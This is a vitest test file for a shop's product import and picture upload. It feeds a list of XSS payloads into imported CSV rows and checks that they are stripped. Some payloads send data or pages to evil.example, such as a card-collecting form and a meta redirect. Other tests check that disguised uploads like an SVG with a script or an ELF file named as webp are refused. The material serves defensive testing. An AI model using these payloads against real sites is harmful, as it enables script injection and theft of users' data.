import { readdirSync } from 'node:fs';
import { beforeEach, expect, test } from 'vitest';
import type { Product } from '../../../src/api/contract/catalog.ts';
import { describeRules } from '../../fixtures/databases.ts';
import { dumpCatalog, importCalls } from '../../fixtures/imports.ts';
import { newStaff, type TestStaff } from '../../fixtures/staff.ts';

/** What runs, loads or leads somewhere as soon as it is in a page. */
const HOSTILE = [
  '<script>run()</script>',
  '<img src=x onerror=run()>',
  '<svg onload=run()><animate onbegin=run() attributeName=x /></svg>',
  '<a href="javascript:run()">a</a>',
  '<a href="java&#10;script:run()">b</a>',
  '<iframe srcdoc="<script>run()</script>"></iframe>',
  '<object data="data:text/html,<script>run()</script>"></object>',
  '<form action="https://evil.example"><input name=card></form>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(https://evil.example/x)">c</p>',
  '<details open ontoggle=run()>d</details>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mtext><table><mglyph><style><img src onerror=run()></style></mglyph></table></mtext></math>',
];
/** Nothing of this may be stored where HTML is shown as it is. */
const RUNS =
  /run\(\)|script|\son\w+=|srcdoc|evil\.example|<(?:style|form|base|meta|object|iframe|svg|math|input)/i;

describeRules('what strangers wrote', (shop) => {
  let manager: TestStaff;
  beforeEach(async () => {
    manager = await newStaff(shop(), 'owner');
  });
  const calls = importCalls(shop, () => manager);
  const shown = async (slug: string) =>
    (await shop().get<{ product: Product }>(`/get-product/${slug}`)).body.product;
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

  test('is stored by an import without anything that runs, and names stay words', async () => {
    const rows = HOSTILE.map((html, at) =>
      [`H-${at}`, `Name ${html}`, `hostile-${at}`, '1.00', `<p>Kept ${at}</p>${html}`].map(quoted).join(','),
    );
    const ready = await calls.send(['sku,name,slug,selling_price,description', ...rows].join('\n'));
    expect(ready).toMatchObject({ created: HOSTILE.length, refused: 0 });
    await calls.publish(ready.id);
    for (const [at, html] of HOSTILE.entries()) {
      const product = await shown(`hostile-${at}`);
      expect(product.description_html, html).toContain(`<p>Kept ${at}</p>`);
      expect(product.description_html, html).not.toMatch(RUNS);
      expect(product.name).toBe(`Name ${html}`);
    }
    await calls.undo(ready.id);
  });

  test('leaves nothing behind when its rows or its file cannot be read', async () => {
    const before = await dumpCatalog(shop());
    const rows = HOSTILE.map((html, at) => [`B-${at}`, `Bad ${at}`, html, html].map(quoted).join(','));
    const refused = await calls.send(['sku,name,selling_price,slug', ...rows].join('\n'));
    expect(refused).toMatchObject({ created: 0, refused: HOSTILE.length });
    const zip = new Uint8Array([
      0x50,
      0x4b,
      3,
      4,
      ...Array.from({ length: 400 }, (_, at) => (at * 37) % 256),
    ]);
    for (const [content, name] of [
      [`<!doctype html>${HOSTILE.join('')}`, 'page.csv'],
      [zip, 'table.xlsx'],
      ['{"products":', 'broken.json'],
      [`[${'['.repeat(50_000)}`, 'deep.json'],
    ] as const)
      expect(await calls.send(content, name), name).toMatchObject({ state: 'failed' });
    expect(await dumpCatalog(shop())).toEqual(before);
  });

  test('is said to be no file that can be read, whatever its name is', async () => {
    const bytes = Uint8Array.from(
      { length: 3_000 },
      (_, at) => (Math.imul(at + 1, 2_654_435_761) >>> 13) & 255,
    );
    const picture = Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 0, 0x10, ...Buffer.from('JFIF'), 0, 1, ...bytes);
    for (const [content, name] of [
      [bytes, 'table.xlsx'],
      [picture, 'photo.csv'],
      [Uint8Array.of(0xff, 0xfe, ...bytes), 'wide.csv'],
    ] as const)
      expect((await calls.send(content, name)).error, name).toBe(
        'This file cannot be read. Send a table as CSV, XLSX or JSON.',
      );
    expect((await calls.send('a,b\n1,2', 'other.csv')).error).toMatch(/columns are of no file that is known/);
  });

  test('is no picture: a drawing that holds a script, a page, and a program are refused and not kept', async () => {
    const files = () => {
      try {
        return readdirSync(`${shop().shop.dataDir}/media`, { recursive: true }).length;
      } catch {
        return 0;
      }
    };
    const before = files();
    for (const [content, name, type] of [
      ['<svg xmlns="http://www.w3.org/2000/svg"><script>run()</script></svg>', 'a.svg', 'image/svg+xml'],
      ['<svg xmlns="http://www.w3.org/2000/svg"><script>run()</script></svg>', 'a.png', 'image/png'],
      ['<!doctype html><script>run()</script>', 'b.jpg', 'image/jpeg'],
      ['\x7fELF\x02\x01\x01', 'c.webp', 'image/webp'],
    ] as const)
      for (const path of ['/api/admin/product-pictures', '/api/admin/pictures']) {
        const body = new FormData();
        body.set('file', new File([content], name, { type }));
        const headers = { cookie: manager.cookie, 'x-requested-with': 'XMLHttpRequest' };
        const { status } = await shop().request(path, { method: 'POST', body, headers });
        expect(status, `${name} at ${path}`).toBe(422);
      }
    expect(files()).toBe(before);
  });
});
